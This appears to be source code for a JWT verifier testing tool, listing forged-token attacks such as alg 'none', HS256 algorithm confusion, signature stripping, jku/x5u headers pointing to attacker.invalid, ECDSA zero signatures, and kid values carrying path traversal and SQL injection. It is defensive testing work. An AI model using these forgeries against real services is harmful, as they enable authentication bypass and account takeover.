// The probe's attacks, one table: each builds one token from the valid one and what an
// attacker has (the token, the issuer's public key, keys of their own), except the claim-policy
// attacks, which sign with the real key so that the one rule under test is all that can refuse
// them. Every entry says what acceptance means and where the rule is written down.
import type { KeyObject } from 'node:crypto';
import type { JWK } from 'jose';
import { ALGORITHMS, type AlgName } from '../../core/algorithms.js';
import type { AttackInfo } from '../../core/results/probe.js';
import { b64u, signToken, type ForgeKey, type JsonObject } from './forge.js';

/** What an attack needs beyond the valid token; without it the attack is skipped, with a reason. */
export type AttackNeed = 'nothing' | 'public-key' | 'signing-material' | 'hmac-token' | 'ecdsa-token' | 'asymmetric-token';

export interface AttackerKey {
  /** a fresh 32-byte secret (HMAC tokens) or a fresh private key of the token's kind */
  key: Uint8Array | KeyObject;
  /** what the attacker embeds or hosts: the public JWK, or the secret as an oct JWK */
  jwk: JWK;
  /** RFC 7638 thumbprint of jwk: a well-formed kid the issuer never published */
  kid: string;
}

export interface ProbeMaterial {
  token: string;
  h: string;
  p: string;
  s: string;
  header: JsonObject;
  payload: JsonObject;
  alg: AlgName;
  /** the issuer's public key, from --jwks or --public-key */
  publicKey: KeyObject | null;
  /** the same key as the JWKS published it (or exported from the PEM) */
  publicJwk: JWK | null;
  /** the real signing key or secret, from --signing-key or --secret */
  signing: ForgeKey | null;
  attacker: AttackerKey;
  /** a dictionary secret that reproduces the valid token's HMAC, when one does */
  weakSecret: string | null;
}

/** Either a token to send, or why this attack does not apply to this token. */
export type Built = { token: string } | { skip: string };

export interface AttackSpec extends AttackInfo {
  needs: AttackNeed[];
  build(m: ProbeMaterial): Built;
}

const NOW = () => Math.floor(Date.now() / 1000);
const token = (t: string): Built => ({ token: t });

/** The real key signs; `needs: ['signing-material']` guarantees it is there. */
function realSigned(m: ProbeMaterial, header: JsonObject, payload: JsonObject): Built {
  return token(signToken(header, payload, m.signing!));
}

function withoutClaim(payload: JsonObject, claim: string): JsonObject {
  const copy = { ...payload };
  delete copy[claim];
  return copy;
}

function algNone(variant: string, keepSignature: boolean): AttackSpec {
  const id = keepSignature ? 'alg-none-signature-kept' : `alg-${variant}`;
  return {
    id, family: 'alg none', needs: ['nothing'],
    title: keepSignature ? 'alg "none", original signature kept' : `alg "${variant}", empty signature`,
    meaning: 'the verifier takes the algorithm from the token and accepts unsigned tokens: anyone can mint any token',
    reference: 'RFC 8725 §2.1, §3.1; RFC 7518 §3.6',
    build: (m) => token(`${b64u(JSON.stringify({ ...m.header, alg: variant }))}.${m.p}.${keepSignature ? m.s : ''}`),
  };
}

/** HS256 keyed with a serialisation of the public key, which the attacker has. */
function confusion(id: string, what: string, secret: (pub: KeyObject, jwk: JWK) => string | Uint8Array | null): AttackSpec {
  return {
    id, family: 'algorithm confusion', needs: ['asymmetric-token', 'public-key'],
    title: `the token's algorithm switched to HS256, HMAC keyed with ${what}`,
    meaning: 'the verifier lets the token pick HMAC and uses the public key as the secret: anyone with the public key can mint tokens',
    reference: 'CVE-2015-9235; CVE-2016-10555; RFC 8725 §2.1, §3.1',
    build: (m) => {
      const key = secret(m.publicKey!, m.publicJwk!);
      if (key === null) return { skip: `no ${what} for a ${m.publicKey!.asymmetricKeyType} key` };
      return token(signToken({ ...m.header, alg: 'HS256' }, m.payload, key));
    },
  };
}

function pem(pub: KeyObject): string {
  return pub.export({ type: 'spki', format: 'pem' }) as string;
}

/** ECDSA r = s = 0, which Java 15-18 accepted for any message (CVE-2022-21449). */
function psychic(encoding: 'raw' | 'der'): AttackSpec {
  return {
    id: `ecdsa-psychic-${encoding}`, family: 'ECDSA psychic signature', needs: ['ecdsa-token'],
    title: `ECDSA signature r = s = 0 (${encoding === 'raw' ? 'JWS R||S form' : 'DER form'})`,
    meaning: 'the verifier\'s ECDSA accepts a zero signature for any message: anyone can mint tokens',
    reference: 'CVE-2022-21449',
    build: (m) => {
      const bytes = { ES256: 64, ES384: 96, ES512: 132 }[m.alg as 'ES256' | 'ES384' | 'ES512'];
      const sig = encoding === 'raw' ? new Uint8Array(bytes) : Uint8Array.of(0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00);
      return token(`${m.h}.${m.p}.${b64u(sig)}`);
    },
  };
}

function kidInjection(id: string, kid: string, what: string, secret: string, reference: string): AttackSpec {
  return {
    id, family: 'kid injection', needs: ['nothing'],
    title: `kid with ${what}, HS256 keyed with ${secret === '' ? 'an empty secret' : `"${secret}"`}`,
    meaning: 'the verifier uses kid to find a key on disk or in a database without checking it: the attacker chooses the key',
    reference,
    build: (m) => token(signToken({ ...m.header, alg: 'HS256', kid }, m.payload, secret)),
  };
}

function claim(id: string, title: string, meaning: string, reference: string, payload: (p: JsonObject, now: number) => JsonObject): AttackSpec {
  return {
    id, family: 'claim policy', needs: ['signing-material'], title: `real key, ${title}`, meaning, reference,
    build: (m) => realSigned(m, m.header, payload(m.payload, NOW())),
  };
}

/** Another JWS algorithm the same key can produce: RS256 and PS256 share RSA keys, HS* share secrets. */
const SAME_KEY_ALG: Partial<Record<AlgName, AlgName>> = {
  RS256: 'PS256', RS384: 'PS384', RS512: 'PS512', PS256: 'RS256', PS384: 'RS384', PS512: 'RS512',
  HS256: 'HS512', HS384: 'HS256', HS512: 'HS256',
};

export const CATALOG: readonly AttackSpec[] = [
  algNone('none', false),
  algNone('None', false),
  algNone('NONE', false),
  algNone('nOnE', false),
  algNone('none', true),

  confusion('confusion-pem', 'the SPKI PEM (with its trailing newline)', (pub) => { const t = pem(pub); return t.endsWith('\n') ? t : `${t}\n`; }),
  confusion('confusion-pem-trimmed', 'the SPKI PEM without a trailing newline', (pub) => pem(pub).trimEnd()),
  confusion('confusion-der', 'the SPKI DER bytes', (pub) => new Uint8Array(pub.export({ type: 'spki', format: 'der' }))),
  confusion('confusion-jwk', 'the published JWK JSON', (_pub, jwk) => JSON.stringify(jwk)),
  confusion('confusion-pkcs1', 'the PKCS#1 PEM', (pub) => (pub.asymmetricKeyType === 'rsa' ? (pub.export({ type: 'pkcs1', format: 'pem' }) as string) : null)),

  {
    id: 'signature-empty', family: 'signature stripping', needs: ['nothing'],
    title: 'signature removed (header.payload.)',
    meaning: 'the verifier decodes without verifying: anyone can mint tokens',
    reference: 'RFC 7515 §5.2; RFC 8725 §3.3',
    build: (m) => token(`${m.h}.${m.p}.`),
  },
  {
    id: 'signature-missing', family: 'signature stripping', needs: ['nothing'],
    title: 'signature segment missing (header.payload)',
    meaning: 'the verifier decodes two-part tokens without verifying: anyone can mint tokens',
    reference: 'RFC 7515 §7.1',
    build: (m) => token(`${m.h}.${m.p}`),
  },
  {
    id: 'payload-tampered', family: 'signature stripping', needs: ['nothing'],
    title: 'sub changed to "admin", original signature kept',
    meaning: 'the verifier does not check that the signature covers the payload: anyone can edit claims',
    reference: 'RFC 7515 §5.2',
    build: (m) => token(`${m.h}.${b64u(JSON.stringify({ ...m.payload, sub: 'admin' }))}.${m.s}`),
  },
  {
    id: 'extra-segments', family: 'malformed', needs: ['nothing'],
    title: 'an extra segment (header.payload.signature.signature)',
    meaning: 'the verifier splits tokens loosely; what it verifies and what it reads may differ',
    reference: 'RFC 7515 §7.1',
    build: (m) => token(`${m.h}.${m.p}.${m.s}.${m.s}`),
  },
  {
    id: 'oversized-header', family: 'malformed', needs: ['nothing'],
    title: 'a 9 KiB protected header (over 8 KiB, under common HTTP header limits), original signature kept',
    meaning: 'the verifier accepts a token whose header it did not sign; size limits bound the work an unauthenticated client causes',
    reference: 'RFC 8725 §3.4; CWE-400',
    build: (m) => token(`${b64u(JSON.stringify({ ...m.header, 'x-pad': 'A'.repeat(9 * 1024) }))}.${m.p}.${m.s}`),
  },

  {
    id: 'embedded-jwk', family: 'key from the token', needs: ['nothing'],
    title: 'embedded jwk header with the attacker\'s key, signed by it',
    meaning: 'the verifier trusts a key the token carries: anyone can mint tokens',
    reference: 'CVE-2018-0114; RFC 8725 §3.10',
    build: (m) => token(signToken({ ...m.header, kid: m.attacker.kid, jwk: m.attacker.jwk }, m.payload, m.attacker.key)),
  },
  {
    id: 'jku-elsewhere', family: 'key from the token', needs: ['nothing'],
    title: 'jku header naming an attacker\'s JWKS URL, signed by the attacker\'s key',
    meaning: 'the verifier fetches keys from where the token says: anyone can mint tokens, and the verifier makes requests for them (SSRF)',
    reference: 'RFC 7515 §4.1.2; RFC 8725 §3.10',
    build: (m) => token(signToken({ ...m.header, kid: m.attacker.kid, jku: 'https://attacker.invalid/.well-known/jwks.json' }, m.payload, m.attacker.key)),
  },
  {
    id: 'x5u-elsewhere', family: 'key from the token', needs: ['nothing'],
    title: 'x5u header naming an attacker\'s certificate URL, signed by the attacker\'s key',
    meaning: 'the verifier fetches certificates from where the token says: anyone can mint tokens, and SSRF',
    reference: 'RFC 7515 §4.1.5; RFC 8725 §3.10',
    build: (m) => token(signToken({ ...m.header, kid: m.attacker.kid, x5u: 'https://attacker.invalid/cert.pem' }, m.payload, m.attacker.key)),
  },

  kidInjection('kid-path-traversal', '../../../../../../dev/null', 'path traversal to /dev/null', '', 'RFC 8725 §3.10; CWE-22'),
  kidInjection('kid-sql-injection', "x' UNION SELECT 'key' -- ", 'SQL injection (UNION SELECT \'key\')', 'key', 'RFC 8725 §3.10; CWE-89'),

  psychic('raw'),
  psychic('der'),

  {
    id: 'foreign-key', family: 'wrong key', needs: ['nothing'],
    title: 'signed by another key of the same algorithm, real header kept',
    meaning: 'the verifier accepts any key of the right type: anyone with a key pair can mint tokens',
    reference: 'RFC 7515 §5.2; RFC 8725 §3.3',
    build: (m) => token(signToken(m.header, m.payload, m.attacker.key)),
  },
  {
    id: 'weak-hmac-secret', family: 'weak secret', needs: ['hmac-token'],
    title: 'HMAC secret from a list of common secrets (checked offline), then a token minted with it',
    meaning: 'the shared secret is guessable: anyone can mint tokens offline after seeing one token',
    reference: 'RFC 7518 §3.2; RFC 8725 §3.5',
    build: (m) => (m.weakSecret === null
      ? { skip: 'no secret on the list reproduces the token\'s signature (checked offline, nothing sent)' }
      : token(signToken(m.header, { ...m.payload, sub: 'admin' }, m.weakSecret))),
  },

  claim('expired', 'expired an hour ago', 'the verifier ignores exp: a stolen token works forever', 'RFC 7519 §4.1.4',
    (p, now) => ({ ...p, iat: now - 7200, exp: now - 3600 })),
  claim('nbf-future', 'nbf an hour in the future', 'the verifier ignores nbf: tokens work before they are meant to', 'RFC 7519 §4.1.5',
    (p) => ({ ...p, nbf: NOW() + 3600 })),
  claim('iat-future', 'iat an hour in the future', 'the verifier accepts tokens from the future: a sign of a skewed or forged issuer clock', 'RFC 7519 §4.1.6; RFC 8725 §3.10',
    (p, now) => ({ ...p, iat: now + 3600, exp: now + 7200 })),
  claim('wrong-iss', 'iss of another issuer', 'the verifier accepts tokens from any issuer that shares the key', 'RFC 7519 §4.1.1; RFC 8725 §3.8',
    (p) => ({ ...p, iss: 'https://attacker.invalid' })),
  claim('wrong-aud', 'aud of another API', 'a token for one API works at another: one service can replay its tokens elsewhere', 'RFC 7519 §4.1.3; RFC 8725 §3.9',
    (p) => ({ ...p, aud: 'another-api.invalid' })),
  claim('missing-exp', 'no exp claim', 'the verifier accepts tokens that never expire', 'RFC 7519 §4.1.4; RFC 9068 §2.2',
    (p) => withoutClaim(p, 'exp')),
  {
    id: 'same-key-other-alg', family: 'claim policy', needs: ['signing-material'],
    title: 'real key, another algorithm of the same family (e.g. PS256 for an RS256 key)',
    meaning: 'the verifier lets the token choose among algorithms: one key, several algorithms, wider attack surface',
    reference: 'RFC 8725 §3.1, §3.2',
    build: (m) => {
      const other = SAME_KEY_ALG[m.alg];
      if (!other) return { skip: `no other JWS algorithm uses a ${m.alg} key` };
      return realSigned(m, { ...m.header, alg: other }, m.payload);
    },
  },
  {
    id: 'crit-unknown', family: 'claim policy', needs: ['signing-material'],
    title: 'real key, crit naming an extension nobody knows',
    meaning: 'the verifier ignores crit: it would also ignore extensions that change how a token must be read',
    reference: 'RFC 7515 §4.1.11',
    build: (m) => realSigned(m, { ...m.header, crit: ['x-jwtbench-unknown'], 'x-jwtbench-unknown': true }, m.payload),
  },
  {
    id: 'b64-false', family: 'claim policy', needs: ['signing-material'],
    title: 'real key, b64: false (unencoded payload) marked critical',
    meaning: 'the verifier ignores b64/crit: what it verified and what it read are different bytes',
    reference: 'RFC 7797 §3, §6; RFC 7515 §4.1.11',
    // The payload segment stays the encoded claims, so a verifier that ignores b64 sees a
    // valid token; one that honours it reads the payload as that literal text, not JSON.
    build: (m) => realSigned(m, { ...m.header, b64: false, crit: ['b64'] }, m.payload),
  },
];

/** Whether this token can meet an attack's needs, and if not, why. */
export function unmet(spec: AttackSpec, m: ProbeMaterial): string | null {
  const family = ALGORITHMS[m.alg].family;
  for (const need of spec.needs) {
    if (need === 'public-key' && !m.publicKey) return 'needs the issuer\'s public key: give --jwks <url> or --public-key <pem file>';
    if (need === 'signing-material' && !m.signing) return 'needs the real signing material: give --secret <file> or --signing-key <pem file>';
    if (need === 'hmac-token' && family !== 'hmac') return `applies to HMAC tokens; this one is ${m.alg}`;
    if (need === 'ecdsa-token' && family !== 'ecdsa') return `applies to ECDSA tokens; this one is ${m.alg}`;
    if (need === 'asymmetric-token' && family === 'hmac') return `applies to public-key tokens; this one is ${m.alg}`;
  }
  return null;
}
